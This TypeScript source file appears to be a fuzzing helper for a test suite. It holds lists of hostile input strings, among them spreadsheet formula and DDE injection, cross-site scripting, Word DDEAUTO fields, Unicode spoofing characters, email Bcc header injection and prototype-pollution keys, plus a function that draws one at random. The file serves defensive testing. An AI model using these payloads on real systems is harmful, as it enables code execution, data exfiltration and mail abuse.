import { FIN, VICTIME } from './repere'
import type { Tirage } from './tirage'

/** What a spreadsheet would compute, or ask another program to run. */
const FORMULES = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/vol","Voir")',
  '@SUM(1+1)*cmd|x',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＠SUM(1)',
  '\0=1+1',
  "'=1+1",
  ' \u00a0=1+1',
  '\u200b=1+1',
  '\u00ad=1+1',
  '\u2060@SUM(1)',
  '=1\n=2',
  'DDE("cmd";"/C calc";"!A0")',
  '=WEBSERVICE("http://example.org/?"&A1)',
  '=IMPORTXML("http://example.org","//a")',
  '%0A=1+1',
]

/** What a page would run or fetch. */
const PAGES = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><iframe src="javascript:alert(1)"></iframe>',
  "' autofocus onfocus=alert(1) x='",
  '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "http://example.org/x.css"</style>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!--#exec cmd="calc"-->',
]

/** What Word would update, fetch or take for its own. */
const WORD = [
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
  '{ INCLUDETEXT "http://example.org/x.docx" }',
  '{INCLUDEPICTURE "http://example.org/x.png"}',
  '\u0013 DDEAUTO cmd "/k calc" \u0014x\u0015',
  '<w:instrText>DDEAUTO cmd</w:instrText>',
  '</w:t></w:r><w:altChunk r:id="rId1"/>',
  '<w:fldSimple w:instr="INCLUDETEXT"/>',
  ']]></w:t>',
  '{{nom}} {{#boucle}}',
]

/** What lies to the eye, or that no file may hold. */
const INVISIBLES = [
  '\u202egnp.exe',
  'a\u202db\u202c',
  '\u2066caché\u2069',
  'Mar\u200btin',
  'Mar\u200dtin\u200c',
  'Mar\u00adtin',
  '\u{e0041}\u{e0042}Martin',
  '\ufeffMartin',
  '\u061cMartin\u180e',
  '\ud800',
  'x\udfff',
  '\0null\0',
  '\u0001\u0002\u0008\u000b\u000c\u001f',
  '\u007f\u0080\u0085\u009f',
  '\ufffe\uffff',
  '\u2028\u2029',
  'Z' + '\u0301'.repeat(400),
  '﷽'.repeat(200),
]

/** What names another place, or another program. */
const ADRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt\t:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'file:///c:/windows/system32/calc.exe',
  '\\\\serveur\\partage\\x.exe',
  'ms-word:ofe|u|http://example.org/x.docm',
  'search-ms:query=x&crumb=location:\\\\serveur',
  'http://example.org/%0d%0aSet-Cookie:x',
]

/** What would add a line to a message, to a card or to a calendar. */
const EN_TETES = [
  `x\r\nBcc: ${VICTIME}`,
  `x\nBcc: ${VICTIME}`,
  `x\u2028Bcc: ${VICTIME}`,
  `x\\nBcc: ${VICTIME}`,
  `x\r\n\r\n<html>${FIN}`,
  'x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Autre',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Autre',
  'x\r\n ATTACH:file:///c:/x',
  'x;TYPE=WORK:y',
  `=?UTF-8?B?DQpCY2M6IHZpY3RpbWU=?=`,
]

/** What a program made of maps would trip on. */
const NOMS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'NaN', 'null']

const LONGUES = ['x'.repeat(1_900), 'é'.repeat(1_500), 'mot '.repeat(400), '\n'.repeat(900)]

export const CHARGES: readonly string[] = [
  ...FORMULES,
  ...PAGES,
  ...WORD,
  ...INVISIBLES,
  ...ADRESSES,
  ...EN_TETES,
  ...NOMS,
  ...LONGUES,
]

/** What is written where an address is awaited. */
export const COURRIELS_HOSTILES: readonly string[] = [
  `a@example.org\r\nBcc: ${VICTIME}`,
  `a@example.org%0ABcc:${VICTIME}`,
  `a@example.org,${VICTIME}`,
  `a@example.org; ${VICTIME}`,
  `mailto:a@example.org?bcc=${VICTIME}`,
  'a@x?bcc=b.example.org',
  `"a@example.org" <${VICTIME}>`,
  '=cmd@example.org',
  '+a@example.org',
  '-a@example.org',
  '|calc@example.org',
  '\\\\serveur\\partage@example.org',
  'javascript:alert(1)@example.org',
  'file:///c:/x@example.org',
  '<img/src=x/onerror=alert(1)>@example.org',
  'a@[127.0.0.1]',
  'zoé@example.org',
  '\u0430dmin@example.org',
  'a\u202e@example.org',
  'a\u200b@example.org',
  'a@example.org/../../x.org',
  'a@exam\0ple.org',
  'a b@example.org',
  `${'x'.repeat(65)}@example.org`,
  `x@${'a.'.repeat(200)}org`,
  '@example.org',
  'a@',
]

/** Days that are none, as spreadsheets and lists write them. */
export const DATES_FAUSSES: readonly string[] = [
  '31/02/2024',
  '0000-00-00',
  '2024-13-45T99:99:99Z',
  '1900-02-29',
  '99999999',
  '-1',
  '1e308',
  'NaN',
]

/** Something hostile, for a field that awaits an address or not. */
export function drawCharge(tirage: Tirage, isCourriel: boolean): string {
  if (isCourriel && tirage.isDrawn(0.8)) return tirage.pick(COURRIELS_HOSTILES)
  return tirage.isDrawn(0.05) ? tirage.pick(DATES_FAUSSES) : tirage.pick(CHARGES)
}
